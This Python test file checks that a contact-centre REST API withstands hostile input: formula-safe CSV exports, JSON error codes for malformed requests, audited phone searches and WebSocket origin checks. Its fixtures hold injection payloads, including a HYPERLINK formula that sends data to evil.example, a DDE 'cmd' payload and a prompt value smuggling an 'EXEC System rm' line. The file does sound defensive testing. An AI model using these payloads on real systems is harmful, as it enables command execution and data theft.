"""REST against hostile and careless input (issue 18): spreadsheet formulas in exports,
inputs that used to be plain-text 500s, personal-data reads that were not audited,
labels and maps an outsider could grow without end."""

from __future__ import annotations

import asyncio
import csv
import io
from typing import Any

import aiohttp
import asyncpg
import pytest

from api_helpers import World, world
from cti.ami.service import OTHER
from cti.ami.wire import RawMessage
from cti.api import queues


async def _csv(w: World, path: str) -> list[list[str]]:
    headers = {"Authorization": f"Bearer {w.tokens['supervisor']}"}
    async with w.http.get(w.base + path, headers=headers) as r:
        assert (r.status, r.content_type) == (200, "text/csv")
        return list(csv.reader(io.StringIO(await r.text())))


async def test_exported_cells_never_become_spreadsheet_formulas(db_url: str, tmp_path: Any) -> None:
    async with world(db_url, tmp_path) as w:
        conn = await asyncpg.connect(db_url)
        hostile = [
            ("f1", '=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0"),
            ("f2", "+359888000001", "@SUM(1+1)"),
            ("f3", "-2+3", "\tq"),
            ("f4", "\r=1", "plain"),
        ]
        for cid, caller, queue in hostile:
            await conn.execute(
                "INSERT INTO interactions (id, direction, caller_number, queue, disposition,"
                " arrived_at, outcome) VALUES ($1, 'inbound', $2, $3, $2,"
                " '2026-11-24 09:00Z', 'abandoned')",
                cid,
                caller,
                queue,
            )
        await conn.close()
        rows = await _csv(w, "/api/v1/interactions?format=csv&sort=arrived_at&limit=10")
        header, body = rows[0], rows[1:]
        by_id = {r[0]: dict(zip(header, r, strict=True)) for r in body}
        for cid, caller, queue in hostile:
            assert by_id[cid]["caller_number"] == "'" + caller
            assert by_id[cid]["disposition"] == "'" + caller
            assert by_id[cid]["queue"] == (queue if queue == "plain" else "'" + queue)
        kpis = await _csv(
            w,
            "/api/v1/reports/kpis?format=csv&group=queue"
            "&start=2026-11-24T00:00:00Z&end=2026-11-25T00:00:00Z",
        )
        keys = {r[0] for r in kpis[1:]}
        assert "'=cmd|' /C calc'!A0" in keys
        assert "'@SUM(1+1)" in keys
        assert not any(k.startswith(("=", "+", "-", "@", "\t", "\r")) for k in keys)
        assert [r[1] for r in kpis[1:]] == ["1"] * 4  # numbers stay numbers


PROFILE = {"endpoint": "PJSIP/x", "skills": {}, "queues": ["benefits"]}
CASES: list[tuple[str, str, Any, str]] = [
    # (method, path, json body, the field or code expected)
    ("GET", "/api/v1/cases?phone=%00", None, "phone"),
    ("GET", "/api/v1/cases?number=2026%00", None, "number"),
    ("GET", "/api/v1/interactions?queue=%00x", None, "queue"),
    ("GET", "/api/v1/recordings?interaction=%00", None, "interaction"),
    ("GET", "/api/v1/recordings/a%00b/audio", None, "recording_id"),
    ("POST", "/api/v1/login", {"username": "\x00", "password": "x"}, "username"),
    ("POST", "/api/v1/cases", {"topic": "other", "description": "a\x00b"}, "description"),
    ("GET", f"/api/v1/cases?offset={2**63}", None, "offset"),
    ("GET", f"/api/v1/interactions?offset={2**63}", None, "offset"),
    ("GET", f"/api/v1/interactions?offset={10**30}&format=csv", None, "offset"),
    ("GET", "/api/v1/reports/kpis?start=2026-01-01T00:00&end=2026-01-02T00:00Z", None, "start"),
    ("GET", "/api/v1/cases?created_from=2026-01-01T00:00:00", None, "created_from"),
    ("GET", "/api/v1/interactions?arrived_to=2026-01-01T10:00", None, "arrived_to"),
    (
        "POST",
        "/api/v1/announcements",
        {"text": "x", "valid_from": "2026-01-01T00:00:00", "valid_to": "2026-01-02T00:00:00Z"},
        "valid_from",
    ),
    (
        "POST",
        "/api/v1/announcements",
        {
            "text": "water",
            "prompt": "cti/x\nEXEC System rm",
            "valid_from": "2026-01-01T00:00:00Z",
            "valid_to": "2026-01-02T00:00:00Z",
        },
        "prompt",
    ),
    ("DELETE", "/api/v1/announcements/%C2%B2", None, "announcement_not_found"),  # "²".isdigit()
    ("DELETE", f"/api/v1/announcements/{10**30}", None, "announcement_not_found"),
    ("GET", f"/api/v1/cases/{10**30}", None, "case_not_found"),
    ("PUT", "/api/v1/agents/a%0D%0Ab", PROFILE, "id"),
]  # fmt: skip


@pytest.mark.parametrize(("method", "path", "body", "expected"), CASES)
async def test_what_used_to_be_a_500_is_a_4xx_with_a_code(
    db_url: str, tmp_path: Any, method: str, path: str, body: Any, expected: str
) -> None:
    async with world(db_url, tmp_path) as w:
        status, reply = await w.call(method, path, "admin", json=body)
        assert 400 <= status < 500, (status, reply)
        assert isinstance(reply, dict), reply  # JSON, never a plain-text page
        fields = [f["path"] for f in reply.get("fields", [])]
        assert expected in (reply["code"], *fields), reply


async def test_deeply_nested_json_is_400_bad_json(db_url: str, tmp_path: Any) -> None:
    async with world(db_url, tmp_path) as w:
        for deep in ("[" * 100_000 + "]" * 100_000, '{"a":' * 50_000 + "1" + "}" * 50_000):
            status, reply = await w.call("POST", "/api/v1/cases", "agent", data=deep.encode())
            assert (status, reply["code"]) == (400, "bad_json"), reply
            assert "recursion" in reply["message"]


async def test_an_unexpected_failure_is_a_json_500_with_a_code(
    db_url: str, tmp_path: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(acd: Any) -> Any:
        raise RuntimeError("a bug")

    monkeypatch.setattr(queues, "queue_items", broken)
    async with world(db_url, tmp_path) as w:
        status, reply = await w.call("GET", "/api/v1/queues", "supervisor")
        assert (status, reply["code"]) == (500, "internal_error")
        assert "a bug" not in reply["message"]  # logged, not shown


async def test_searches_by_phone_number_are_audited(db_url: str, tmp_path: Any) -> None:
    async with world(db_url, tmp_path) as w:
        assert (await w.call("GET", "/api/v1/cases?phone=0888%20123%20456", "agent"))[0] == 200
        status, _ = await w.call("GET", "/api/v1/interactions?caller=0888123457", "integrator")
        assert status == 200
        assert (await w.call("GET", "/api/v1/cases?status=registered", "agent"))[0] == 200
        conn = await asyncpg.connect(db_url)
        rows = await conn.fetch("SELECT actor, action, target FROM audit_log ORDER BY id")
        await conn.close()
        assert [tuple(r) for r in rows] == [
            ("ann", "case_search", "+359888123456"),
            ("int", "interaction_search", "+359888123457"),
        ]


async def test_invented_ami_events_and_http_methods_add_no_labels(
    db_url: str, tmp_path: Any
) -> None:
    async with world(db_url, tmp_path) as w:
        feed = w.core.feed
        for i in range(20_000):
            feed.on_raw(RawMessage({"Event": f"Invented{i}", "Privilege": "call,all"}))
        feed.on_raw(RawMessage({"Event": "FullyBooted", "Privilege": "system,all"}))
        assert feed.counts[OTHER] >= 20_000
        assert len(feed.counts) < 100
        for i in range(30):
            async with w.http.request(f"M{i}X", w.base + "/health") as r:
                assert r.status < 500
        _, text = await w.call("GET", "/metrics", None)
        assert f'cti_ami_events_total{{event="{OTHER}"}}' in text
        assert 'event="FullyBooted"' in text
        assert "Invented" not in text
        assert 'method="M' not in text
        assert len(text) < 100_000


async def test_recording_errors_name_the_file_not_the_servers_directories(
    db_url: str, tmp_path: Any
) -> None:
    from cti.sim.wav import write_wav
    from cti.store.recordings import save_recording

    async with world(db_url, tmp_path) as w:
        wav = tmp_path / "secret-dir" / "i9.wav"
        wav.parent.mkdir()
        write_wav(wav, 1.0)
        conn = await asyncpg.connect(db_url)
        import datetime as dt

        rec = await save_recording(conn, "i9", "a1", wav, dt.datetime(2026, 11, 24, tzinfo=dt.UTC))
        await conn.close()
        wav.write_bytes(wav.read_bytes()[:-10] + b"\x00" * 10)  # changed since it was stored
        status, reply = await w.call("GET", f"/api/v1/recordings/{rec.id}/audio", "supervisor")
        assert (status, reply["code"]) == (422, "recording_tampered")
        assert "i9.wav" in reply["message"]
        assert str(tmp_path) not in reply["message"]
        wav.unlink()
        status, reply = await w.call("GET", f"/api/v1/recordings/{rec.id}/audio", "supervisor")
        assert (status, reply["code"]) == (422, "recording_missing")
        assert str(tmp_path) not in reply["message"]


async def test_a_slow_login_burst_does_not_hold_other_requests(db_url: str, tmp_path: Any) -> None:
    """Requests never wait for the password hasher's queue: beyond it, 503 `busy`."""
    async with world(db_url, tmp_path) as w:
        w.api.passwords.waiting_limit = 0
        status, reply = await w.call(
            "POST", "/api/v1/login", None, json={"username": "sue", "password": "whatever"}
        )
        assert (status, reply["code"]) == (503, "busy")
        w.api.passwords.waiting_limit = 64
        status, _ = await w.call(
            "POST",
            "/api/v1/login",
            None,
            json={"username": "sue", "password": "correct horse battery"},
        )
        assert status == 200  # the refused attempt did not count against sue


async def test_ws_clients_without_origin_still_work_and_others_need_the_allow_list(
    db_url: str, tmp_path: Any
) -> None:
    from cti.config import HttpSettings

    async with world(db_url, tmp_path) as w:
        url = f"{w.base}/ws/agent?token={w.tokens['agent']}"
        with pytest.raises(aiohttp.WSServerHandshakeError) as err:
            async with w.http.ws_connect(url, origin="http://evil.example"):
                pass
        assert err.value.status == 403
        for origin in (None, w.base, w.base.replace("127.0.0.1", "127.0.0.1") + "/"):
            async with w.http.ws_connect(url, origin=origin) as ws:
                assert (await asyncio.wait_for(ws.receive_json(), 5))["type"] == "hello"
        sup = f"{w.base}/ws/supervisor?token={w.tokens['supervisor']}"
        with pytest.raises(aiohttp.WSServerHandshakeError):
            async with w.http.ws_connect(sup, origin="https://crm.example.org"):
                pass
        settings = w.core.settings
        w.core.settings = settings.model_copy(
            update={"http": HttpSettings(allowed_origins=["https://CRM.example.org"])}
        )
        async with w.http.ws_connect(sup, origin="https://crm.example.org") as ws:
            assert (await asyncio.wait_for(ws.receive_json(), 5))["type"] == "snapshot"
